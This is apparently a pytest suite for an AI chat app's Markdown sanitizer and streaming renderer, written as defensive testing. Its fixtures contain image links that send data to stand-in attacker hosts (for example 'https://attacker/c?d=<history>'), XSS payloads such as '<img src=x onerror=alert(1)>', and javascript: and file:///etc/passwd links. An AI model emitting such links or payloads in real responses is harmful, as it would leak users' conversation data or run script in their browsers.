"""sanitize_markdown and LiveMarkdown (RELIABILITY D3, D4, D5, I4, I5), and the turn worker."""

from __future__ import annotations

import threading
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from agent_app import events as ev
from agent_app.ui.render import LiveMarkdown, host_allowed, sanitize_markdown
from agent_app.ui.worker import TurnWorker

pytestmark = pytest.mark.unit
MD = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _tokens(text: str):
    stack = list(MD.parse(text))
    while stack:
        tok = stack.pop()
        yield tok
        stack.extend(tok.children or [])


def _active(text: str) -> list[tuple[str, str]]:
    """What a Markdown renderer would turn into something live: images, links, raw HTML."""
    out = []
    for tok in _tokens(sanitize_markdown(text)):
        if tok.type == "image":
            out.append(("image", str(tok.attrs.get("src"))))
        elif tok.type == "link_open":
            out.append(("link", str(tok.attrs.get("href"))))
        elif tok.type in ("html_inline", "html_block"):
            out.append(("html", tok.content))
    return out


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://attacker/c?d=<history>)",
        "![x](https://github.com/logo.png)",
        'before ![a b](<https://attacker/x y.png> "title") after',
        "[ref]: https://attacker/c?d=secret\n\n![x][ref] and [y][ref]",
        "![multi\nline](https://attacker/x.png)",
        "[![nested](https://attacker/i.png)](https://attacker/l)",
    ],
)
def test_external_images_never_render(text):  # D3
    assert [kind for kind, _ in _active(text)].count("image") == 0
    assert "attacker" not in " ".join(href for kind, href in _active(text) if kind == "link")


def test_image_becomes_plain_text():
    assert (
        sanitize_markdown("see ![a chart](https://attacker/c.png) here")
        == "see \\[image: a chart\\] here"
    )


def test_links_outside_the_allowlist_are_inert_but_visible():
    out = sanitize_markdown(
        "[docs](https://github.com/x) and [prize](https://attacker.example/?q=1)"
    )
    assert _active("[docs](https://github.com/x) and [prize](https://attacker.example/?q=1)") == [
        ("link", "https://github.com/x")
    ]
    assert "`https://attacker.example/?q=1`" in out and "prize" in out


def test_bare_urls_outside_the_allowlist_are_code():
    out = sanitize_markdown("go to https://attacker.example/x?d=1. or www.evil.example now")
    assert out == "go to `https://attacker.example/x?d=1`. or `www.evil.example` now"
    assert sanitize_markdown("https://help.aliyun.com/zh") == "https://help.aliyun.com/zh"


@pytest.mark.parametrize(
    "text",
    [
        "<img src=x onerror=alert(1)>",
        "<script>alert(1)</script>",
        "a <b onclick=x>bold</b> <iframe src=//evil></iframe>",
        "<div>\n<svg onload=alert(1)>\n</div>",
    ],
)
def test_html_is_shown_as_text(text):  # D4
    assert _active(text) == []
    assert (
        "alert" in sanitize_markdown(text)
        or "evil" in sanitize_markdown(text)
        or "bold" in sanitize_markdown(text)
    )


@pytest.mark.parametrize(
    "href",
    [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "data:text/html,<b>x</b>",
        "vbscript:msgbox",
        "file:///etc/passwd",
    ],
)
def test_dangerous_schemes_are_not_links(href):  # D4
    assert _active(f"[click]({href})") == []
    assert not host_allowed(href)


def test_dollar_amounts_are_not_latex_but_latex_is():  # I4
    assert (
        sanitize_markdown("It costs ¥100 and $5, or $x^2$.") == "It costs ¥100 and \\$5, or $x^2$."
    )
    assert sanitize_markdown("costs $5 and $10 today") == "costs \\$5 and \\$10 today"
    assert sanitize_markdown("already \\$5") == "already \\$5"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Qwen: \\(a^2+b^2=c^2\\).", "Qwen: $a^2+b^2=c^2$."),
        ("so \\[\\int_0^1 x\\,dx = \\tfrac12\\]", "so $$\\int_0^1 x\\,dx = \\tfrac12$$"),
        ("$$\nE = mc^2\n$$", "$$E = mc^2$$"),
        ("$a_1 * b_2 < c$ and `$x$`", "$a_1 * b_2 \\lt  c$ and `$x$`"),
        ("```\n$$x$$ \\(y\\)\n```", "```\n$$x$$ \\(y\\)\n```"),
        ("$[x](https://attacker/p)$", "\\$x (`https://attacker/p`)\\$"),
    ],
)
def test_latex_is_kept_for_katex_outside_code(text, shown):
    assert sanitize_markdown(text) == shown
    assert not [a for a in _active(text) if a[0] in ("image", "html", "link")]


def test_code_is_left_alone():
    text = "Use `a $b <c> ![x](http://e)` then:\n```python\nprint('$5 <b>')\n![x](http://e)\n```\nok $1"
    out = sanitize_markdown(text)
    assert "`a $b <c> ![x](http://e)`" in out
    assert "print('$5 <b>')\n![x](http://e)\n```" in out
    assert out.endswith("ok \\$1")


def test_invisible_characters_are_dropped():  # D5
    assert sanitize_markdown("a\u202eb\u200bc\U000e0041d") == "abcd"
    assert sanitize_markdown("👩\u200d👩\u200d👧") == "👩\u200d👩\u200d👧"  # ZWJ emoji kept


def test_plain_text_and_markdown_survive():
    text = "# 标题\n\n**粗体** 和 *斜体*\n\n- 一\n- 二\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    assert sanitize_markdown(text) == text


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_never_raises_and_never_renders_images_or_html(text):  # I5
    out = sanitize_markdown(text)
    assert isinstance(out, str)
    assert not [a for a in _active(text) if a[0] in ("image", "html")]


PIECES = st.sampled_from(
    list("ab $<>[]()!`\\\n:/.hw~#文")
    + ["http://", "https://e.com/x", "![", "](", "```", "github.com", "**", "¥100"]
)


class Placeholder:
    """What st.empty() gives the live turn: every markdown() call replaces what is shown."""

    def __init__(self) -> None:
        self.renders: list[str] = []

    def markdown(self, text: str) -> None:
        self.renders.append(text)


@settings(max_examples=400, deadline=None)
@given(st.lists(PIECES, max_size=40), st.randoms(use_true_random=False))
def test_every_streamed_render_is_the_sanitized_prefix(parts, rnd):
    text, box, i = "".join(parts), Placeholder(), 0
    live = LiveMarkdown(box, min_interval=0, clock=lambda: 0.0)  # a render every time
    while i < len(text):
        step = rnd.randint(1, 4)
        live.add(text[i : i + step])
        i += step
        assert box.renders[-1] == sanitize_markdown(text[:i])
        assert not [a for a in _active(text[:i]) if a[0] in ("image", "html")]
    live.flush()
    assert (box.renders or [""])[-1] == sanitize_markdown(text)


def test_an_unfinished_image_is_never_live_while_streaming():
    box = Placeholder()
    live = LiveMarkdown(box, min_interval=0, clock=lambda: 0.0)  # a render every time
    for piece in ("Look: ![x](https://attac", "ker/c.png", ") done"):
        live.add(piece)
    assert box.renders[-1] == "Look: \\[image: x\\] done"
    for shown in box.renders:
        assert not [a for a in _active_md(shown) if a[0] in ("image", "html")]
        assert "attacker" not in " ".join(h for k, h in _active_md(shown) if k == "link")


def test_renders_are_throttled_and_the_last_one_is_complete():
    box, now = Placeholder(), [0.0]
    live = LiveMarkdown(box, min_interval=0.05, clock=lambda: now[0])
    for piece in "abcdef":
        live.add(piece)
        now[0] += 0.01
    assert len(box.renders) < 6
    live.flush()
    assert box.renders[-1] == "abcdef"


def _active_md(markdown: str) -> list[tuple[str, str]]:
    """Live parts of already-sanitized Markdown, as a renderer would see them."""
    out = []
    for tok in _tokens(markdown):
        if tok.type == "image":
            out.append(("image", str(tok.attrs.get("src"))))
        elif tok.type == "link_open":
            out.append(("link", str(tok.attrs.get("href"))))
        elif tok.type in ("html_inline", "html_block"):
            out.append(("html", tok.content))
    return out


@pytest.mark.parametrize(
    "text",
    [
        "> quoted ![x](https://attacker/q.png) and <b>bold</b>",
        "- item [prize](https://attacker/l)\n  - nested ![y](https://attacker/n.png)",
        "| a | b |\n|---|---|\n| ![x](https://attacker/t.png) | <img src=x> |",
        "## Heading ![x](https://attacker/h.png) ##",
        "Title ![x](https://attacker/s.png)\n===",
        "<https://attacker.example/auto> and <mailto:x@attacker.example>",
        "[a](https://attacker/x 'title') [b](<https://attacker/y z>)",
        "*em ![x](https://attacker/e.png)* __[s](https://attacker/s)__",
        "text\n\n    indented code ![x](https://attacker/c.png)\n",
        "1. one\n2. two <script>x</script>",
        "[x]\n\n[x]: https://attacker/ref",
        "a_https://attacker.example/a_b_c",
    ],
)
def test_block_containers_do_not_hide_live_parts(text):  # D3, D4 inside quotes, lists, tables
    active = _active(text)
    assert not [a for a in active if a[0] in ("image", "html")]
    assert "attacker" not in " ".join(href for kind, href in active if kind == "link")


def test_containers_and_code_keep_their_shape():
    text = "> **note** costs $5\n\n- [docs](https://github.com/x)\n\n```\n<b>$</b>\n```\n"
    assert sanitize_markdown(text) == (
        "> **note** costs \\$5\n\n- [docs](https://github.com/x)\n\n```\n<b>$</b>\n```\n"
    )


@pytest.mark.parametrize(
    "text",
    [
        "[x][y]\n\n[y]: https://evil.example/leak?d=1",
        "<div>\nsee https://evil.example/in-html\n</div>",
    ],
)
def test_bare_urls_in_definitions_and_html_blocks_become_code(text):  # GFM autolinks bare URLs
    out = sanitize_markdown(text)
    assert "`https://evil.example/" in out and "](https://evil" not in out


def test_allowed_image_becomes_a_link_to_it_not_an_image():
    assert sanitize_markdown("![logo](https://github.com/logo.png)") == (
        "[\\[image: logo\\]](https://github.com/logo.png)"
    )


def test_worker_streams_then_stops_cleanly():
    seen = threading.Event()

    def start(stop):
        for i in range(1000):
            if stop.is_set():
                yield ev.Error("stopped", "Stopped.")
                return
            yield ev.Token(str(i))
            seen.set()
            time.sleep(0.005)

    worker = TurnWorker("t1", start, "en")
    first = next(worker.events())
    assert first == ev.Token("0")
    left = worker.finish(5)
    assert left is not None and left[-1] == ev.Error("stopped", "Stopped.")
    assert not worker.alive


def test_worker_turns_a_crash_into_an_error_event():
    def start(stop):
        yield ev.Token("a")
        raise RuntimeError("boom /secret/path")

    events = list(TurnWorker("t2", start, "en").events())
    assert events[0] == ev.Token("a")
    assert isinstance(events[-1], ev.Error) and "/secret" not in events[-1].message
